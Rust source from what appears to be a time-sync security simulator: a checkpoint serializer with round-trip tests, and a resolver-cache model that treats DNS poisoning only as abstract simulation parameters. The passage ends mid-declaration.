        if checksum(payload) != stored {
            return Err(CheckpointError::BadChecksum);
        }
        Ok(Reader::new(payload))
    }

    /// Bytes left unread (0 after a complete decode).
    pub(crate) fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }

    pub(crate) fn take(&mut self, n: usize) -> Result<&'a [u8], CheckpointError> {
        if self.remaining() < n {
            return Err(CheckpointError::Truncated);
        }
        let slice = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(slice)
    }

    pub(crate) fn u8(&mut self) -> Result<u8, CheckpointError> {
        Ok(self.take(1)?[0])
    }

    pub(crate) fn u16(&mut self) -> Result<u16, CheckpointError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().expect("len")))
    }

    pub(crate) fn u32(&mut self) -> Result<u32, CheckpointError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().expect("len")))
    }

    pub(crate) fn u64(&mut self) -> Result<u64, CheckpointError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().expect("len")))
    }

    pub(crate) fn i64(&mut self) -> Result<i64, CheckpointError> {
        Ok(i64::from_le_bytes(self.take(8)?.try_into().expect("len")))
    }

    pub(crate) fn f64(&mut self) -> Result<f64, CheckpointError> {
        Ok(f64::from_bits(self.u64()?))
    }

    pub(crate) fn bool(&mut self) -> Result<bool, CheckpointError> {
        match self.u8()? {
            0 => Ok(false),
            1 => Ok(true),
            _ => Err(CheckpointError::Corrupt("bool tag out of range")),
        }
    }

    pub(crate) fn str(&mut self) -> Result<String, CheckpointError> {
        let n = self.u32()? as usize;
        let bytes = self.take(n)?;
        String::from_utf8(bytes.to_vec())
            .map_err(|_| CheckpointError::Corrupt("string is not UTF-8"))
    }

    pub(crate) fn len(&mut self) -> Result<usize, CheckpointError> {
        Ok(self.u32()? as usize)
    }
}

/// XOR-fold checksum over 8-byte lanes: cheap, order-sensitive enough to
/// catch truncation and bit rot (the failure modes of a file on disk —
/// this is an integrity check, not an authenticator). Public so sibling
/// on-disk formats (chronosd's `SWP1` sweep cursor and `CHRM1` job
/// manifest) share the same integrity trailer as `CHR1`.
pub fn checksum(bytes: &[u8]) -> u64 {
    let mut acc = 0xc0de_c0de_c0de_c0deu64 ^ (bytes.len() as u64);
    let mut chunks = bytes.chunks_exact(8);
    for chunk in &mut chunks {
        let lane = u64::from_le_bytes(chunk.try_into().expect("8-byte chunk"));
        acc = acc.rotate_left(9) ^ lane;
    }
    let mut tail = [0u8; 8];
    let rest = chunks.remainder();
    tail[..rest.len()].copy_from_slice(rest);
    acc.rotate_left(9) ^ u64::from_le_bytes(tail)
}

// --- option / duration helpers ---

fn put_duration(w: &mut Writer, d: SimDuration) {
    w.u64(d.as_nanos());
}

fn get_duration(r: &mut Reader<'_>) -> Result<SimDuration, CheckpointError> {
    Ok(SimDuration::from_nanos(r.u64()?))
}

fn put_opt_u64(w: &mut Writer, v: Option<u64>) {
    match v {
        None => w.u8(0),
        Some(x) => {
            w.u8(1);
            w.u64(x);
        }
    }
}

fn get_opt_u64(r: &mut Reader<'_>) -> Result<Option<u64>, CheckpointError> {
    match r.u8()? {
        0 => Ok(None),
        1 => Ok(Some(r.u64()?)),
        _ => Err(CheckpointError::Corrupt("option tag out of range")),
    }
}

// --- chronos config ---

fn put_pool(w: &mut Writer, p: &PoolGenConfig) {
    w.str(&p.pool_name.to_string());
    w.u64(p.queries as u64);
    put_duration(w, p.query_interval);
    put_opt_u64(w, p.max_records_per_response.map(|v| v as u64));
    put_opt_u64(w, p.reject_ttl_above.map(u64::from));
}

fn get_pool(r: &mut Reader<'_>) -> Result<PoolGenConfig, CheckpointError> {
    let name = r.str()?;
    Ok(PoolGenConfig {
        pool_name: name
            .parse()
            .map_err(|_| CheckpointError::Corrupt("invalid pool name"))?,
        queries: r.u64()? as usize,
        query_interval: get_duration(r)?,
        max_records_per_response: get_opt_u64(r)?.map(|v| v as usize),
        reject_ttl_above: get_opt_u64(r)?
            .map(|v| u32::try_from(v).map_err(|_| CheckpointError::Corrupt("ttl cap overflow")))
            .transpose()?,
    })
}

fn put_chronos(w: &mut Writer, c: &ChronosConfig) {
    w.u64(c.sample_size as u64);
    w.u64(c.trim as u64);
    put_duration(w, c.omega);
    put_duration(w, c.err);
    w.f64(c.drift_ppm);
    w.u32(c.max_retries);
    put_duration(w, c.poll_interval);
    put_duration(w, c.response_window);
    put_pool(w, &c.pool);
}

fn get_chronos(r: &mut Reader<'_>) -> Result<ChronosConfig, CheckpointError> {
    Ok(ChronosConfig {
        sample_size: r.u64()? as usize,
        trim: r.u64()? as usize,
        omega: get_duration(r)?,
        err: get_duration(r)?,
        drift_ppm: r.f64()?,
        max_retries: r.u32()?,
        poll_interval: get_duration(r)?,
        response_window: get_duration(r)?,
        pool: get_pool(r)?,
    })
}

// --- cohort tiers ---

fn put_kind(w: &mut Writer, k: ClientKind) {
    w.u8(match k {
        ClientKind::Chronos => 0,
        ClientKind::PlainNtp => 1,
        ClientKind::Nts => 2,
        ClientKind::Roughtime => 3,
    });
}

fn get_kind(r: &mut Reader<'_>) -> Result<ClientKind, CheckpointError> {
    match r.u8()? {
        0 => Ok(ClientKind::Chronos),
        1 => Ok(ClientKind::PlainNtp),
        2 => Ok(ClientKind::Nts),
        3 => Ok(ClientKind::Roughtime),
        _ => Err(CheckpointError::Corrupt("client kind out of range")),
    }
}

fn put_tier(w: &mut Writer, t: &CohortTier) {
    w.str(&t.label);
    put_kind(w, t.kind);
    w.u32(t.share);
    match &t.chronos {
        None => w.u8(0),
        Some(c) => {
            w.u8(1);
            put_chronos(w, c);
        }
    }
    put_opt_u64(w, t.poll_interval.map(|d| d.as_nanos()));
    put_opt_u64(w, t.pool_size.map(|v| v as u64));
    put_opt_u64(w, t.key_lifetime.map(|d| d.as_nanos()));
    put_opt_u64(w, t.rekey_interval.map(|d| d.as_nanos()));
    put_opt_u64(w, t.sources.map(|v| v as u64));
}

fn get_tier(r: &mut Reader<'_>) -> Result<CohortTier, CheckpointError> {
    Ok(CohortTier {
        label: r.str()?,
        kind: get_kind(r)?,
        share: r.u32()?,
        chronos: match r.u8()? {
            0 => None,
            1 => Some(get_chronos(r)?),
            _ => return Err(CheckpointError::Corrupt("option tag out of range")),
        },
        poll_interval: get_opt_u64(r)?.map(SimDuration::from_nanos),
        pool_size: get_opt_u64(r)?.map(|v| v as usize),
        key_lifetime: get_opt_u64(r)?.map(SimDuration::from_nanos),
        rekey_interval: get_opt_u64(r)?.map(SimDuration::from_nanos),
        sources: get_opt_u64(r)?.map(|v| v as usize),
    })
}

// --- attack / fault plan ---

fn put_attack(w: &mut Writer, a: &FleetAttack) {
    w.u64(a.at.as_nanos());
    w.u32(a.ttl_secs);
    w.u64(a.farm_size as u64);
    w.i64(a.shift_ns);
    put_opt_u64(w, a.poisoned_resolvers.map(|v| v as u64));
}

fn get_attack(r: &mut Reader<'_>) -> Result<FleetAttack, CheckpointError> {
    Ok(FleetAttack {
        at: SimTime::from_nanos(r.u64()?),
        ttl_secs: r.u32()?,
        farm_size: r.u64()? as usize,
        shift_ns: r.i64()?,
        poisoned_resolvers: get_opt_u64(r)?.map(|v| v as usize),
    })
}

fn put_tier_faults(w: &mut Writer, f: &TierFaults) {
    w.f64(f.ntp_loss);
    w.f64(f.dns_servfail);
}

fn get_tier_faults(r: &mut Reader<'_>) -> Result<TierFaults, CheckpointError> {
    Ok(TierFaults {
        ntp_loss: r.f64()?,
        dns_servfail: r.f64()?,
    })
}

fn put_faults(w: &mut Writer, f: &FaultPlan) {
    put_tier_faults(w, &f.all_tiers);
    w.len(f.tiers.len());
    for t in &f.tiers {
        put_tier_faults(w, t);
    }
    w.len(f.outages.len());
    for windows in &f.outages {
        w.len(windows.len());
        for win in windows {
            w.u64(win.start_ns);
            w.u64(win.duration_ns);
        }
    }
    match &f.serve_stale {
        None => w.u8(0),
        Some(s) => {
            w.u8(1);
            w.u64(s.max_stale_secs);
        }
    }
    put_duration(w, f.retry.base);
    put_duration(w, f.retry.cap);
    w.f64(f.retry.jitter);
    w.u32(f.retry.max_attempts);
}

fn get_faults(r: &mut Reader<'_>) -> Result<FaultPlan, CheckpointError> {
    let all_tiers = get_tier_faults(r)?;
    let tiers = (0..r.len()?)
        .map(|_| get_tier_faults(r))
        .collect::<Result<Vec<_>, _>>()?;
    let outage_resolvers = r.len()?;
    let mut outages = Vec::with_capacity(outage_resolvers);
    for _ in 0..outage_resolvers {
        let windows = (0..r.len()?)
            .map(|_| {
                Ok(OutageWindow {
                    start_ns: r.u64()?,
                    duration_ns: r.u64()?,
                })
            })
            .collect::<Result<Vec<_>, CheckpointError>>()?;
        outages.push(windows);
    }
    let serve_stale = match r.u8()? {
        0 => None,
        1 => Some(ServeStalePolicy {
            max_stale_secs: r.u64()?,
        }),
        _ => return Err(CheckpointError::Corrupt("option tag out of range")),
    };
    let retry = RetryPolicy {
        base: get_duration(r)?,
        cap: get_duration(r)?,
        jitter: r.f64()?,
        max_attempts: r.u32()?,
    };
    Ok(FaultPlan {
        all_tiers,
        tiers,
        outages,
        serve_stale,
        retry,
    })
}

// --- the full FleetConfig ---

/// Serializes a complete [`FleetConfig`] into `w` (field order is the
/// format contract — change it only with a [`VERSION`] bump).
pub(crate) fn put_config(w: &mut Writer, c: &FleetConfig) {
    w.u64(c.seed);
    w.u64(c.clients as u64);
    w.u64(c.first_client_id);
    put_chronos(w, &c.chronos);
    w.len(c.tiers.len());
    for t in &c.tiers {
        put_tier(w, t);
    }
    w.u64(c.resolvers as u64);
    w.u64(c.universe as u64);
    w.u64(c.per_response as u64);
    put_duration(w, c.benign_ttl);
    w.u64(c.benign_offset_ms);
    w.f64(c.client_drift_ppm);
    put_duration(w, c.jitter_std);
    put_duration(w, c.stagger);
    w.bool(c.shared_cache);
    match &c.attack {
        None => w.u8(0),
        Some(a) => {
            w.u8(1);
            put_attack(w, a);
        }
    }
    put_faults(w, &c.faults);
    put_duration(w, c.safety_bound);
    put_duration(w, c.sample_every);
    w.bool(c.record_trajectories);
    put_duration(w, c.horizon);
    w.u64(c.threads as u64);
    w.u64(c.shard_size as u64);
}

/// Decodes a [`FleetConfig`] written by [`put_config`].
pub(crate) fn get_config(r: &mut Reader<'_>) -> Result<FleetConfig, CheckpointError> {
    Ok(FleetConfig {
        seed: r.u64()?,
        clients: r.u64()? as usize,
        first_client_id: r.u64()?,
        chronos: get_chronos(r)?,
        tiers: (0..r.len()?)
            .map(|_| get_tier(r))
            .collect::<Result<Vec<_>, _>>()?,
        resolvers: r.u64()? as usize,
        universe: r.u64()? as usize,
        per_response: r.u64()? as usize,
        benign_ttl: get_duration(r)?,
        benign_offset_ms: r.u64()?,
        client_drift_ppm: r.f64()?,
        jitter_std: get_duration(r)?,
        stagger: get_duration(r)?,
        shared_cache: r.bool()?,
        attack: match r.u8()? {
            0 => None,
            1 => Some(get_attack(r)?),
            _ => return Err(CheckpointError::Corrupt("option tag out of range")),
        },
        faults: get_faults(r)?,
        safety_bound: get_duration(r)?,
        sample_every: get_duration(r)?,
        record_trajectories: r.bool()?,
        horizon: get_duration(r)?,
        threads: r.u64()? as usize,
        shard_size: r.u64()? as usize,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rich_config() -> FleetConfig {
        let mut mitigated = CohortTier::chronos("mitigated", 2);
        mitigated.chronos = Some(ChronosConfig {
            pool: PoolGenConfig::mitigated(),
            ..ChronosConfig::default()
        });
        mitigated.poll_interval = Some(SimDuration::from_secs(32));
        let mut plain = CohortTier::plain_ntp("plain", 1);
        plain.pool_size = Some(6);
        let mut nts = CohortTier::nts("nts", 1);
        nts.key_lifetime = Some(SimDuration::from_secs(3600));
        nts.rekey_interval = Some(SimDuration::from_secs(900));
        let mut roughtime = CohortTier::roughtime("roughtime", 1);
        roughtime.sources = Some(5);
        FleetConfig {
            seed: 0xdead_beef,
            clients: 100,
            first_client_id: 17,
            tiers: vec![
                CohortTier::chronos("stock", 3),
                mitigated,
                plain,
                nts,
                roughtime,
            ],
            resolvers: 4,
            attack: Some(
                FleetAttack::paper_default(SimTime::from_secs(300), SimDuration::from_millis(500))
                    .with_poisoned_resolvers(2),
            ),
            faults: FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 0.01,
                    dns_servfail: 0.002,
                },
                tiers: vec![TierFaults::default()],
                outages: vec![
                    vec![OutageWindow {
                        start_ns: 5_000_000_000,
                        duration_ns: 60_000_000_000,
                    }],
                    Vec::new(),
                ],
                serve_stale: Some(ServeStalePolicy {
                    max_stale_secs: 1800,
                }),
                retry: RetryPolicy::default(),
            },
            record_trajectories: true,
            ..FleetConfig::default()
        }
    }

    #[test]
    fn config_round_trips_exactly() {
        let config = rich_config();
        let mut w = Writer::new();
        put_config(&mut w, &config);
        let bytes = w.finish();
        let mut r = Reader::verified(&bytes).expect("checksum holds");
        let back = get_config(&mut r).expect("decodes");
        assert_eq!(back, config);
        assert_eq!(r.remaining(), 0, "nothing left over");
    }

    #[test]
    fn default_config_round_trips() {
        let config = FleetConfig::default();
        let mut w = Writer::new();
        put_config(&mut w, &config);
        let bytes = w.finish();
        let mut r = Reader::verified(&bytes).expect("checksum holds");
        assert_eq!(get_config(&mut r).expect("decodes"), config);
    }

    #[test]
    fn primitives_round_trip() {
        let mut w = Writer::new();
        w.u8(7);
        w.u16(65_000);
        w.u32(4_000_000_000);
        w.u64(u64::MAX - 1);
        w.i64(-42);
        w.f64(-0.125);
        w.f64(f64::NAN);
        w.bool(true);
        w.str("héllo");
        w.len(3);
        let bytes = w.finish();
        let mut r = Reader::verified(&bytes).expect("checksum holds");
        assert_eq!(r.u8().unwrap(), 7);
        assert_eq!(r.u16().unwrap(), 65_000);
        assert_eq!(r.u32().unwrap(), 4_000_000_000);
        assert_eq!(r.u64().unwrap(), u64::MAX - 1);
        assert_eq!(r.i64().unwrap(), -42);
        assert_eq!(r.f64().unwrap(), -0.125);
        assert!(r.f64().unwrap().is_nan(), "NaN bits survive");
        assert!(r.bool().unwrap());
        assert_eq!(r.str().unwrap(), "héllo");
        assert_eq!(r.len().unwrap(), 3);
        assert_eq!(r.remaining(), 0);
    }

    #[test]
    fn corruption_is_detected() {
        let mut w = Writer::new();
        put_config(&mut w, &FleetConfig::default());
        let mut bytes = w.finish();
        // Flip one payload bit: the checksum must catch it.
        bytes[10] ^= 0x40;
        assert_eq!(
            Reader::verified(&bytes).err(),
            Some(CheckpointError::BadChecksum)
        );
        // Truncation below the trailer.
        assert_eq!(
            Reader::verified(&bytes[..4]).err(),
            Some(CheckpointError::Truncated)
        );
        // Reading past the end of a verified payload.
        let mut w = Writer::new();
        w.u8(1);
        let bytes = w.finish();
        let mut r = Reader::verified(&bytes).expect("intact");
        r.u8().expect("the one byte");
        assert_eq!(r.u64().err(), Some(CheckpointError::Truncated));
    }

    #[test]
    fn errors_render_distinctly() {
        let msgs: Vec<String> = [
            CheckpointError::Truncated,
            CheckpointError::BadMagic,
            CheckpointError::BadVersion(9),
            CheckpointError::BadChecksum,
            CheckpointError::Corrupt("tag"),
        ]
        .iter()
        .map(|e| e.to_string())
        .collect();
        for (i, a) in msgs.iter().enumerate() {
            assert!(!a.is_empty());
            for b in &msgs[i + 1..] {
                assert_ne!(a, b);
            }
        }
    }
}
