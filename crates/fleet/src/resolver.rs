//! The fleet's shared resolver-cache model.
//!
//! Mirrors the `dnslab` semantics the packet-level scenarios exercise,
//! reduced to what pool composition depends on:
//!
//! * the benign zone rotates `per_response` addresses per *upstream fetch*
//!   (cf. [`dnslab::zone::Rotation`]), and the recursive resolver caches
//!   each fetched batch for the record TTL (150 s for pool.ntp.org) — so
//!   clients querying inside one TTL window all see the *same* batch;
//! * a poisoned entry (however it got there) freezes the cache for its
//!   attacker-chosen TTL: every query in `[at, at + ttl)` returns the
//!   malicious record set.
//!
//! Answers are batch *identities*, not addresses: batch `b` stands for the
//! rotation slice `addrs[b·k mod U .. b·k+k mod U]`, and since the engine
//! only needs pool composition (which servers lie) the identity is enough.

use crate::config::FleetConfig;
use serde::{Deserialize, Serialize};

/// What one DNS query returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DnsAnswer {
    /// A benign rotation batch (`per_response` addresses, identified by
    /// the rotation residue `batch % rotation_batches`).
    Benign {
        /// Rotation batch identity.
        batch: u64,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
    /// The attacker's record set.
    Poisoned {
        /// Malicious records in the response.
        farm_size: usize,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
}

/// The shared (or per-client, see [`FleetConfig::shared_cache`]) resolver
/// cache.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ResolverModel {
    ttl_ns: u64,
    benign_ttl_secs: u32,
    poison: Option<(u64, u64, usize, u32)>, // (from, until, farm, ttl)
    /// Upstream fetches performed (== batches served so far).
    cursor: u64,
    cached_batch: u64,
    cached_until: u64,
    primed: bool,
}

impl ResolverModel {
    /// A resolver for `config`'s zone shape and attack.
    pub fn new(config: &FleetConfig) -> Self {
        let poison = config.attack.map(|a| {
            let (from, until) = a.window_ns();
            (from, until, a.farm_size, a.ttl_secs)
        });
        ResolverModel {
            ttl_ns: config.benign_ttl.as_nanos(),
            benign_ttl_secs: config.benign_ttl.as_secs() as u32,
            poison,
            cursor: 0,
            cached_batch: 0,
            cached_until: 0,
            primed: false,
        }
    }

    /// Empties the cache and rewinds the rotation (fleet-reuse support).
    pub fn reset(&mut self) {
        self.cursor = 0;
        self.cached_batch = 0;
        self.cached_until = 0;
        self.primed = false;
    }

    /// Upstream fetches performed so far.
    pub fn fetches(&self) -> u64 {
        self.cursor
    }

    /// Answers a query through the shared cache at `now_ns`.
    pub fn query_shared(&mut self, now_ns: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        if !self.primed || now_ns >= self.cached_until {
            self.cached_batch = self.cursor;
            self.cursor += 1;
            self.cached_until = now_ns.saturating_add(self.ttl_ns);
            self.primed = true;
        }
        DnsAnswer::Benign {
            batch: self.cached_batch,
            ttl_secs: self.benign_ttl_secs,
        }
    }

    /// Answers a query for an *independent* client (no shared cache): the
    /// client's `round` index is its private rotation position.
    pub fn query_independent(&self, now_ns: u64, round: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        DnsAnswer::Benign {
            batch: round,
            ttl_secs: self.benign_ttl_secs,
        }
    }

    /// Precomputes the shared cache's full answer timeline for a fleet
    /// whose clients boot at `starts` (ns) and each send `rounds` pool
    /// queries spaced `interval_ns` apart.
    ///
    /// This is the deterministic pre-pass that makes intra-fleet
    /// parallelism possible: the cache is the only cross-client coupling,
    /// and its state advances *only* at query times — which are static
    /// (`boot + k·interval`, independent of what the answers contain). The
    /// replay runs [`ResolverModel::query_shared`] itself on a scratch
    /// copy, visiting one query per answer-change boundary (a cache expiry
    /// or a poison-window edge) and skipping the runs of queries in
    /// between, which provably return the boundary query's answer without
    /// touching cache state. The result answers any actual query time
    /// read-only — and therefore concurrently from every shard.
    pub fn timeline(&self, starts: &[u64], interval_ns: u64, rounds: u64) -> ResolverTimeline {
        let mut sim = self.clone();
        sim.reset();
        let mut segments: Vec<(u64, DnsAnswer)> = Vec::new();
        let mut t = next_query_at_or_after(starts, interval_ns, rounds, 0);
        while let Some(tq) = t {
            let answer = sim.query_shared(tq);
            if segments.last().map(|&(_, a)| a) != Some(answer) {
                segments.push((tq, answer));
            }
            // The answer — and the cache state — cannot change before the
            // next boundary: a poisoned window runs to its end; a benign
            // answer holds until the cached batch expires or the poison
            // window opens.
            let boundary = match answer {
                DnsAnswer::Poisoned { .. } => {
                    let (_, until, _, _) = sim.poison.expect("poisoned answer implies a window");
                    until
                }
                DnsAnswer::Benign { .. } => {
                    let mut b = sim.cached_until;
                    if let Some((from, _, _, _)) = sim.poison {
                        if from > tq {
                            b = b.min(from);
                        }
                    }
                    b
                }
            };
            t = next_query_at_or_after(starts, interval_ns, rounds, boundary.max(tq + 1));
        }
        ResolverTimeline {
            segments,
            fetches: sim.cursor,
        }
    }
}

/// The first pool-query time at or after `from` across a fleet whose
/// clients boot at `starts` and query `rounds` times, `interval_ns` apart.
fn next_query_at_or_after(starts: &[u64], interval_ns: u64, rounds: u64, from: u64) -> Option<u64> {
    starts
        .iter()
        .filter_map(|&s| {
            if from <= s {
                return Some(s);
            }
            if interval_ns == 0 {
                return None; // all of this client's queries were at `s`
            }
            let k = (from - s).div_ceil(interval_ns);
            (k < rounds).then(|| s + k * interval_ns)
        })
        .min()
}

/// The precomputed answer function of the shared resolver cache over one
/// run: `(start_ns, answer)` segments, piecewise-constant between actual
/// query times (see [`ResolverModel::timeline`]). Immutable after
/// construction, so shards stepping in parallel read it without
/// synchronization.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ResolverTimeline {
    segments: Vec<(u64, DnsAnswer)>,
    fetches: u64,
}

impl ResolverTimeline {
    /// A timeline with no queries (independent-cache fleets).
    pub fn empty() -> Self {
        ResolverTimeline::default()
    }

    /// The answer every query at `now_ns` receives.
    ///
    /// # Panics
    ///
    /// Panics when `now_ns` precedes the first recorded query — a query
    /// time the pre-pass did not know about, which would mean the static
    /// query schedule and the engine disagree.
    pub fn answer(&self, now_ns: u64) -> DnsAnswer {
        let i = self.segments.partition_point(|&(start, _)| start <= now_ns);
        assert!(i > 0, "query at {now_ns} ns precedes the resolver timeline");
        self.segments[i - 1].1
    }

    /// Upstream fetches the replay performed (== benign batches served).
    pub fn fetches(&self) -> u64 {
        self.fetches
    }

    /// Number of answer-change segments recorded.
    pub fn segments(&self) -> usize {
        self.segments.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FleetAttack;
    use netsim::time::{SimDuration, SimTime};

    const SEC: u64 = 1_000_000_000;

    fn config(attack: Option<FleetAttack>) -> FleetConfig {
        FleetConfig {
            attack,
            ..FleetConfig::default()
        }
    }

    #[test]
    fn shared_cache_serves_one_batch_per_ttl_window() {
        let mut r = ResolverModel::new(&config(None));
        let a = r.query_shared(0);
        let b = r.query_shared(100 * SEC); // inside the 150 s TTL
        assert_eq!(a, b, "cached batch is shared");
        let c = r.query_shared(151 * SEC);
        assert!(matches!(c, DnsAnswer::Benign { batch: 1, .. }));
        assert_eq!(r.fetches(), 2);
    }

    #[test]
    fn poison_window_freezes_the_cache_for_everyone() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(500), SimDuration::from_millis(500));
        let mut r = ResolverModel::new(&config(Some(attack)));
        assert!(matches!(r.query_shared(0), DnsAnswer::Benign { .. }));
        for t in [500u64, 600, 86_000, 86_900] {
            assert!(
                matches!(
                    r.query_shared(t * SEC),
                    DnsAnswer::Poisoned { farm_size: 89, .. }
                ),
                "t={t}s inside the window"
            );
        }
        // 500 + 86 401 s: the poisoned entry finally expires.
        assert!(matches!(
            r.query_shared(86_901 * SEC),
            DnsAnswer::Benign { .. }
        ));
    }

    #[test]
    fn independent_mode_keys_rotation_by_round() {
        let r = ResolverModel::new(&config(None));
        assert!(matches!(
            r.query_independent(0, 0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
        assert!(matches!(
            r.query_independent(0, 7),
            DnsAnswer::Benign { batch: 7, .. }
        ));
    }

    /// The pre-pass contract: for every actual query time, the timeline
    /// answers exactly what the incremental shared cache would have.
    fn assert_timeline_matches_incremental(
        attack: Option<FleetAttack>,
        starts: &[u64],
        interval_ns: u64,
        rounds: u64,
    ) {
        let model = ResolverModel::new(&config(attack));
        let timeline = model.timeline(starts, interval_ns, rounds);
        // Replay the exact query multiset in time order, incrementally.
        let mut times: Vec<u64> = starts
            .iter()
            .flat_map(|&s| (0..rounds).map(move |k| s + k * interval_ns))
            .collect();
        times.sort_unstable();
        let mut incremental = model.clone();
        incremental.reset();
        for &t in &times {
            assert_eq!(
                timeline.answer(t),
                incremental.query_shared(t),
                "answer diverged at t={t} ns"
            );
        }
        assert_eq!(timeline.fetches(), incremental.fetches());
    }

    #[test]
    fn timeline_matches_incremental_cache_benign() {
        // Staggered boots, queries denser and sparser than the 150 s TTL.
        let starts: Vec<u64> = (0..7).map(|i| i * 37 * SEC).collect();
        assert_timeline_matches_incremental(None, &starts, 200 * SEC, 6);
        assert_timeline_matches_incremental(None, &starts, 40 * SEC, 9);
        // A lone sparse client: every query refetches.
        assert_timeline_matches_incremental(None, &[5 * SEC], 400 * SEC, 8);
    }

    #[test]
    fn timeline_matches_incremental_cache_poisoned() {
        let early =
            FleetAttack::paper_default(SimTime::from_secs(300), SimDuration::from_millis(500));
        let starts: Vec<u64> = (0..9).map(|i| i * 53 * SEC).collect();
        assert_timeline_matches_incremental(Some(early), &starts, 200 * SEC, 24);
        // Poison opening mid-TTL-window and a short-TTL poison that ends
        // while the pre-poison benign batch is still fresh.
        let mid_window = FleetAttack {
            at: SimTime::from_secs(70),
            ttl_secs: 60,
            farm_size: 89,
            shift_ns: 500_000_000,
        };
        assert_timeline_matches_incremental(Some(mid_window), &starts, 25 * SEC, 30);
    }

    #[test]
    fn timeline_lookup_shape() {
        let model = ResolverModel::new(&config(None));
        let tl = model.timeline(&[0, 10 * SEC], 200 * SEC, 3);
        // One batch per 150 s window over the span: answers inside a
        // window are constant.
        assert_eq!(tl.answer(0), tl.answer(10 * SEC));
        assert!(tl.segments() >= 2, "rotation advanced across windows");
        assert_eq!(ResolverTimeline::empty().segments(), 0);
    }

    #[test]
    #[should_panic(expected = "precedes the resolver timeline")]
    fn timeline_rejects_queries_before_the_first() {
        let model = ResolverModel::new(&config(None));
        let tl = model.timeline(&[10 * SEC], 200 * SEC, 2);
        tl.answer(SEC);
    }

    #[test]
    fn reset_rewinds_rotation_and_cache() {
        let mut r = ResolverModel::new(&config(None));
        r.query_shared(0);
        r.query_shared(200 * SEC);
        assert_eq!(r.fetches(), 2);
        r.reset();
        assert_eq!(r.fetches(), 0);
        assert!(matches!(
            r.query_shared(0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
    }
}
