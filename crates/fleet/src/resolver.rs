//! The fleet's resolver-cache model — one instance per resolver.
//!
//! Mirrors the `dnslab` semantics the packet-level scenarios exercise,
//! reduced to what pool composition depends on:
//!
//! * the benign zone rotates `per_response` addresses per *upstream fetch*
//!   (cf. [`dnslab::zone::Rotation`]), and the recursive resolver caches
//!   each fetched batch for the record TTL (150 s for pool.ntp.org) — so
//!   clients querying inside one TTL window all see the *same* batch;
//! * a poisoned entry (however it got there) freezes the cache for its
//!   attacker-chosen TTL: every query in `[at, at + ttl)` returns the
//!   malicious record set.
//!
//! Answers are batch *identities*, not addresses: batch `b` stands for the
//! rotation slice `addrs[b·k mod U .. b·k+k mod U]`, and since the engine
//! only needs pool composition (which servers lie) the identity is enough.
//!
//! # Multiple resolvers
//!
//! A fleet runs `R` **independent** resolvers
//! ([`crate::config::FleetConfig::resolvers`]); clients hash onto them via
//! [`crate::cohort::resolver_of`]. Each resolver is its own
//! [`ResolverModel`] built by [`ResolverModel::for_resolver`]:
//!
//! * resolver 0 is the *legacy* resolver — rotation phase 0 and exactly
//!   the configured benign TTL, so an `R = 1` fleet reproduces the
//!   single-resolver engine byte for byte;
//! * resolvers `1..R` draw a rotation phase and a benign-TTL perturbation
//!   (0.5–1.5× the configured TTL, whole seconds) from a per-resolver RNG
//!   stream keyed by `(fleet seed, resolver id)` — real resolver caches
//!   are not in lockstep, and the diversity is what partial poisoning
//!   experiments measure against;
//! * a resolver is **poisoned** only when the attack's
//!   [`poisoned_resolvers`](crate::config::FleetAttack::poisoned_resolvers)
//!   subset covers its id — the knob behind fraction-of-resolvers-poisoned
//!   sweeps (E16).
//!
//! # Examples
//!
//! The deterministic pre-pass that unlocks intra-fleet parallelism:
//! pool-query times are static, so the cache's full answer timeline
//! replays up front and is then read immutably — and therefore
//! concurrently — by every shard:
//!
//! ```
//! use fleet::config::FleetConfig;
//! use fleet::resolver::{DnsAnswer, QuerySchedule, ResolverModel};
//!
//! let model = ResolverModel::new(&FleetConfig::default());
//! // Two clients: one boots at t=0 and queries 3 times, 200 s apart; a
//! // plain-NTP straggler boots at t=10 s and queries exactly once.
//! let schedules = [
//!     QuerySchedule { start_ns: 0, interval_ns: 200_000_000_000, rounds: 3 },
//!     QuerySchedule { start_ns: 10_000_000_000, interval_ns: 0, rounds: 1 },
//! ];
//! let timeline = model.timeline(&schedules);
//! // Both early queries fall inside one 150 s TTL window: same batch.
//! assert_eq!(timeline.answer(0), timeline.answer(10_000_000_000));
//! // The second Chronos round refetched: the rotation moved on.
//! assert!(matches!(timeline.answer(200_000_000_000), DnsAnswer::Benign { batch: 1, .. }));
//! assert_eq!(timeline.fetches(), 3);
//! ```

use crate::config::FleetConfig;
use crate::rng::{client_seed, FleetRng};
use serde::{Deserialize, Serialize};

/// Salt folded into the fleet seed before deriving a resolver's rotation
/// phase and TTL perturbation, so resolver diversity draws are
/// decorrelated from client streams and the resolver *assignment* hash.
const RESOLVER_TRAIT_SALT: u64 = 0x0d1f_f3a5_0f00_dcaf;

/// TTL (seconds) attached to answers served stale under RFC 8767: the
/// RFC recommends re-marking stale data with a short TTL ("on the order
/// of 30 seconds") rather than the record's original — which also means a
/// stale serve *launders* an attacker's day-long TTL past the §V
/// reject-TTL-above mitigation (the mitigated client sees 30 s, not
/// 86 401 s). Documented attack surface, exercised by E17.
pub const STALE_TTL_SECS: u32 = 30;

/// What one DNS query returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
